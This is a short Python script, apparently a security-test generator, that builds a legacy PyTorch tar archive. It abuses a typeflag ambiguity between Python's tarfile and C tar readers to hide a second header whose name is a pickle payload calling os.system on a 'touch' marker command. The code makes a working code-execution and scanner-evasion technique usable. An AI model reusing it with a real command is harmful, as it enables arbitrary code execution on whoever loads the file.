"""Legacy torch tar whose 'storages' member has a typeflag Python's tarfile does not know (extracted as a
regular file of `size` bytes) while C tar readers give it another meaning. The 512 data bytes also form a
valid header whose name field is the payload pickle.
usage: python3 tar_type.py OUT MARKER TYPECHAR"""
import sys

from tarblocks import header, write_legacy_tar

def main(out, marker, t):
    payload = b"cos\nsystem\n(V touch " + marker.encode() + b"\ntR."
    blocks = [header(b"storages", 512, t.encode()), header(payload, 0)]
    write_legacy_tar(out, blocks)

if __name__ == "__main__":
    main(*sys.argv[1:])
